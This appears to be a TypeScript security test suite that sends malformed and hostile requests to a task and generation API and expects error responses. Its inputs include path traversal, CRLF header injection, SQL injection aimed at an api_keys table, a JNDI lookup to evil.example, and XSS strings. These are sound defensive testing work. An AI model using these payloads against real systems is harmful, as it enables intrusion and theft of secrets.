import { headersOf } from "../../support/client.ts";
import type { HostileCase, Scene } from "../hostile_case.ts";
import { SQL } from "./wrong_values.ts";

const UUID = "11111111-1111-4111-8111-111111111111";

/** Ids that are none, as they stand in a path. */
const IDS = [
  "null",
  "undefined",
  "0",
  "-1",
  "*",
  "%25",
  "%00",
  `${UUID}%00`,
  `${UUID}%20`,
  `%20${UUID}`,
  `{${UUID}}`,
  `urn:uuid:${UUID}`,
  `${UUID},${UUID}`,
  `${UUID}x`,
  `${UUID};drop`,
  UUID.replaceAll("-", ""),
  "00000000-0000-0000-0000-000000000000",
  "..%2f..%2fworker",
  "..%5c..%5cworker",
  "%2e%2e%2fgeneration%2fhealth",
  "%252e%252e%252f",
  "%c0%ae%c0%ae%2f",
  "%zz",
  "%ed%a0%80",
  "%0d%0aSet-Cookie:a=b",
  "🙂",
  encodeURIComponent(SQL),
  encodeURIComponent("' or '1'='1"),
  encodeURIComponent(`${UUID}' union select * from private.api_keys --`),
  encodeURIComponent("${jndi:ldap://evil.example/a}"),
  encodeURIComponent("<script>alert(1)</script>"),
  "__proto__",
  "constructor",
  "x".repeat(5_000),
  // Long, and what looks for secrets in a log line begins again and again.
  "eyJ-".repeat(15_000),
  "Bearer%20".repeat(6_000),
];

const OPERATIONS = [
  "text-to-video",
  "TEXT-TO-IMAGE",
  "text_to_image",
  "text-to-image%00",
  "text-to-image%20",
  "text-to-image;x=1",
  "text-to-image%2f",
  "text-to-image.json",
  "..%2fworker",
  "%2e%2e%2fhealth",
  "%zz",
  "constructor",
  "__proto__",
  "toString",
  "*",
  ":operation",
  encodeURIComponent(SQL),
  "%0d%0aSet-Cookie:a=b",
  "x".repeat(5_000),
];

const NOWHERE = [
  "generation",
  "generation/",
  "generation//text-to-image",
  "generation/text-to-image/",
  "generation/text-to-image/x",
  "generation/availability/",
  "generation/availability/openai",
  "generation/health/x",
  "generation/../tasks-status/x/y",
  "generation/.env",
  "tasks/",
  `tasks//status`,
  `tasks/${UUID}/`,
  `tasks/${UUID}/status/`,
  `tasks/${UUID}/STATUS`,
  `tasks/${UUID}/requeue`,
  `tasks-status/${UUID}/x`,
  "account/",
  "account/x",
  `account/${UUID}`,
  "operator/",
  "operator/x",
  "worker/x",
];

/** Methods that a route does not have. */
const METHODS: readonly (readonly [method: string, path: string])[] = [
  ["GET", "generation/text-to-image"],
  ["PUT", "generation/text-to-image"],
  ["PATCH", "generation/text-to-image"],
  ["DELETE", "generation/text-to-image"],
  ["POST", "generation/availability"],
  ["DELETE", "generation/availability"],
  ["POST", "generation/health"],
  ["DELETE", "generation/health"],
  ["POST", "generation/openapi.json"],
  ["POST", "generation/llms.txt"],
  ["DELETE", "generation/llms-full.txt"],
  ["POST", `tasks/${UUID}/status`],
  ["DELETE", `tasks/${UUID}/status`],
  ["GET", `tasks/${UUID}`],
  ["POST", "tasks"],
  ["DELETE", "tasks"],
  ["PATCH", "tasks-status"],
  ["PUT", `tasks/${UUID}`],
  ["POST", `tasks/${UUID}`],
  ["PATCH", `tasks-status/${UUID}`],
  ["POST", `tasks-status/${UUID}`],
  ["POST", "account"],
  ["PATCH", "account"],
  ["DELETE", "operator"],
  ["PUT", "operator"],
  ["GET", "worker"],
  ["DELETE", "worker"],
];

const SERVICES = [
  "",
  "tripo",
  "OpenAI",
  "openai,tripoai",
  "openai%00",
  "openai%0d%0aSet-Cookie:a=b",
  encodeURIComponent(SQL),
  "__proto__",
  "x".repeat(5_000),
];

const PURGES = [
  "",
  "1",
  "yes",
  "True",
  "true%00",
  "true,false",
  encodeURIComponent(SQL),
  "x".repeat(5_000),
];

const WAITS = [
  "",
  "-1",
  "26",
  "2.5",
  "1e1",
  "0x10",
  "+5",
  "%205",
  "５",
  "Infinity",
  "NaN",
  "true",
  "25&wait=25",
  encodeURIComponent(SQL),
  "9".repeat(5_000),
];

/** Parameters of the list, and what of them names the field. */
const LISTS: readonly (readonly [field: string, query: string])[] = [
  ...["Complete", "done", "null", "*", "__proto__", "complete%00", encodeURIComponent(SQL)]
    .map((value) => ["status", `status=${value}`] as const),
  ...["text-to-video", "toString", "text-to-image,image-to-image", "x".repeat(5_000)]
    .map((value) => ["operation", `operation=${value}`] as const),
  ...["0", "101", "-1", "1.5", "1e1", "ten", "0x10", "100%00", "9".repeat(5_000)]
    .map((value) => ["limit", `limit=${value}`] as const),
  ...[
    "x",
    UUID,
    "0",
    btoa("1_x"),
    btoa(`1_${UUID}x`),
    encodeURIComponent(btoa(`-1_${UUID}`)),
    encodeURIComponent(btoa(`9007199254740993_${UUID}`)),
    encodeURIComponent(btoa(`1_${UUID}' or true --`)),
    encodeURIComponent(SQL),
    "%00",
    "A".repeat(5_000),
  ].map((value) => ["cursor", `cursor=${value}`] as const),
  ["status", "status=failed&status=failed"],
  ["limit", "limit=5&limit=5"],
];

const VALID = JSON.stringify({ task_id: "t", provider: "openai", prompt: "x" });

/** Paths that lead nowhere, or try to. */
export function paths(scene: Scene): HostileCase[] {
  const headers = headersOf(scene.caller.token);
  const read = (path: string, error: HostileCase["error"], method = "GET"): HostileCase => ({
    name: `${method} ${path.slice(0, 100)}`,
    method,
    path,
    headers,
    error,
    ...(["POST", "PUT", "PATCH"].includes(method) && { body: () => VALID }),
  });
  return [
    ...IDS.flatMap((id) => [
      read(`tasks/${id}/status`, "not_found"),
      read(`tasks-status/${id}`, "not_found"),
      read(`tasks/${id}`, "not_found", "DELETE"),
      read(`tasks/${id}?purge=true`, "not_found", "DELETE"),
    ]),
    ...OPERATIONS.map((operation) => read(`generation/${operation}`, "not_found", "POST")),
    ...NOWHERE.map((path) => read(path, "not_found", "POST")),
    ...METHODS.map(([method, path]) => read(path, "method_not_allowed", method)),
    ...PURGES.map((value) => read(`tasks/${UUID}?purge=${value}`, "invalid_request", "DELETE")),
    ...WAITS.flatMap((value) => [
      { ...read(`tasks/${UUID}/status?wait=${value}`, "invalid_request"), words: /^wait: / },
      { ...read(`tasks-status/${UUID}?wait=${value}`, "invalid_request"), words: /^wait: / },
    ]),
    ...LISTS.flatMap(([field, query]) => [
      { ...read(`tasks?${query}`, "invalid_request"), words: new RegExp(`^${field}: `) },
      { ...read(`tasks-status?${query}`, "invalid_request"), words: new RegExp(`^${field}: `) },
    ]),
    ...SERVICES.map((service) => read(`tasks/${UUID}/status?service=${service}`, "not_found")),
  ];
}
